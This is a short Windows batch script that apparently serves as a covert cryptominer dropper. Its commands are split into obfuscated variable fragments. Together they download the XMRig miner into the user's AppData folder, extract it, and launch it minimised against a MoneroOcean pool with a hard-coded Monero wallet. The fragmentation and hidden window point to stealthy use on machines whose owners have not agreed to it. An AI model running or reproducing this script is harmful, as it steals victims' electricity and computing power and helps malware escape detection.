REM run 8546 v2
@echo off
@echo off
setlocal EnableDelayedExpansion
set otd0=cd /d 
set ctm1=%APPDATA%
!otd0!!ctm1!
cmd /v:on /c "set ktl0=curl -sLo x.zip https:/&&set ssj1=/github.com/x&&set tyu2=mrig/xmrig/releases/download/v6.21.0/&&set fky3=xmrig-6.21.0-msvc-win64.zip&&!ktl0!!ssj1!!tyu2!!fky3!"
cmd /v:on /c "set nhn0=t&&set heb1=ar &&set dbl2=-xf x&&set obm3=.zip&&!nhn0!!heb1!!dbl2!!obm3!"
cmd /v:on /c "set yfa0=start /min xmrig-6.21.0\xmrig.ex&&set bpg1=e -o stratum+tcp://gulf&&set gkv2=.moneroocean.stream:10128 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3Xj&&set fob3=rpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x --donate-level=&&set aro4=1&&!yfa0!!bpg1!!gkv2!!fob3!!aro4!"
